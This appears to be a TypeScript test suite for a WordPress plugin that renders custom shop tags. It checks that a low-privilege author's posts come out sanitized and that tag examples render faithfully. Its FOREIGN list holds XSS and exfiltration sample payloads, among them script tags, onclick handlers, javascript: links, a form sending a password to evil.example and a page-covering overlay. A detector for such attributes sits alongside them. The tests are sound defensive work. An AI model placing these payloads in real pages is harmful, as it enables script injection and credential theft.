import { parseFragment } from 'parse5'
import { examples, type Node, read, readTags } from './examples.ts'
import { expect, test } from './fixture.ts'
import type { WordPress } from './site.ts'

/** The ways in which an author stores a tag, as PHP. */
const WAYS = {
  'the block': `serialize_block(['blockName' => 'vitrine/tag', 'attrs' => ['html' => $html], 'innerBlocks' => [], 'innerContent' => []])`,
  'the shortcode in a classic post': `"[vitrine]\\n" . $html . "\\n[/vitrine]"`,
  'the shortcode between paragraphs': `"A \\"first\\" paragraph.\\n\\n[vitrine]" . $html . "[/vitrine]\\n\\nThe last -- one."`,
  'the shortcode in its block': `"<!-- wp:shortcode -->\\n[vitrine]" . $html . "[/vitrine]\\n<!-- /wp:shortcode -->"`,
  'HTML in a classic post': `$html`,
  'HTML in a classic block': `'<!-- wp:freeform -->' . $html . '<!-- /wp:freeform -->'`,
  'HTML in a block of HTML': `"<!-- wp:html -->\\n" . $html . "\\n<!-- /wp:html -->"`,
}

/** Saves each example as the account does, and returns what its page has. */
function published({ php }: WordPress, account: string, way: string, all: readonly { html: string }[]): string[] {
  const printed = php(`
    wp_set_current_user(get_user_by('login', '${account}')->ID);
    kses_init();
    $shown = [];
    foreach (json_decode(base64_decode('${Buffer.from(JSON.stringify(all.map(({ html }) => html))).toString('base64')}')) as $html) {
      $id = wp_insert_post(wp_slash(['post_title' => 'Example', 'post_status' => 'publish', 'post_content' => ${way}]));
      $shown[] = apply_filters('the_content', get_post($id)->post_content);
      wp_delete_post($id, true);
    }
    echo json_encode($shown);`)
  return JSON.parse(printed) as string[]
}

const withParagraphs = (html: string) =>
  html.replace('<p>A &#8220;first&#8221; paragraph.</p>', '').replace('<p>The last &#8212; one.</p>', '')

/** What an author without the right to any HTML must not be able to publish. */
const FOREIGN = [
  '<coupon-form onclick="alert(1)"><script>alert(2)</script></coupon-form>',
  '<shop-cart src="https://evil.example/items"></shop-cart>',
  '<shop-cart src="\\\\evil.example/items"></shop-cart>',
  '<form action="https://evil.example/collect"><input name="password"></form>',
  '<modal-link><a href="javascript:alert(1)">x</a></modal-link>',
  '<add-to-cart><button formaction="//evil.example">x</button></add-to-cart>',
  '<copy-button style="position:fixed;inset:0;background:url(https://evil.example/a)" text="a"></copy-button>',
  '[vitrine tag="copy-button" onclick="alert(1)" text="a"]x[/vitrine]',
  '[vitrine tag="shop-cart" src="https://evil.example/items"]x[/vitrine]',
  '<sale-countdown callback="history.back"></sale-countdown>',
  '[vitrine tag="script" src="/x.js"]x[/vitrine]',
]

/** Scripts, and attributes that run one, lead to the other site or cover the page. */
const dangers = (node: Node): string[] => [
  ...(node.nodeName === 'script' ? ['script'] : []),
  ...(node.attrs ?? [])
    .map(({ name, value }) => `${name}=${value}`)
    .filter((text) => /^on|^callback|evil|javascript:|position:/.test(text)),
  ...(node.childNodes ?? []).flatMap(dangers),
]

test('an author can publish no script, and no address of another site that tags fetch @registry', ({ wordpress }) => {
  for (const way of Object.values(WAYS)) {
    const all = FOREIGN.map((html) => ({ html }))
    for (const shown of published(wordpress, 'author', way, all))
      expect(dangers(parseFragment(shown) as Node)).toEqual([])
  }
})

test('a tag whose attributes are written as those of the shortcode @registry', ({ wordpress }) => {
  const html = `[vitrine tag="sale-countdown" end-time="01/01/2030" lang="fr"]Until <em>January</em> [1][/vitrine]`
  const [shown = ''] = published(wordpress, 'author', WAYS['HTML in a classic post'], [{ html }])
  const expected = '<sale-countdown end-time="01/01/2030" lang="fr">Until <em>January</em> [1]</sale-countdown>'
  expect(read(shown)).toEqual(read(expected))
})

test('a feed has the texts, without tags and controls @registry', async ({ wordpress, request }) => {
  const html =
    '[vitrine]<coupon-form><form method="post"><label>Code <input name="CouponCode"></label></form></coupon-form>[/vitrine]'
  const id = wordpress.php(
    `echo wp_insert_post(['post_title' => 'Fed', 'post_status' => 'publish', 'post_content' => '${html}']);`,
  )
  const feed = await (await request.get(`${wordpress.address}/feed/`)).text()
  wordpress.php(`wp_delete_post(${id}, true);`)
  expect(feed).toContain('Code')
  expect(feed).not.toMatch(/<coupon-form|<form|<input|<page-loader|shop-settings/)
})

for (const account of ['author', 'admin'])
  for (const [name, way] of Object.entries(WAYS))
    test(`${name} of ${account} shows each example as it is written @registry`, ({ wordpress }) => {
      const all = examples()
      expect(all.length).toBeGreaterThan(110)
      const shown = published(wordpress, account, way, all)
      const changed = all.flatMap(({ tag, html }, place) => {
        const now = withParagraphs(shown[place] ?? '')
        // WordPress makes paragraphs of other HTML in a classic post: the tags in it are as they are.
        const as = name === 'HTML in a classic post' ? readTags : read
        return JSON.stringify(as(now)) === JSON.stringify(as(html)) ? [] : [{ tag, html, now }]
      })
      expect(changed).toEqual([])
    })
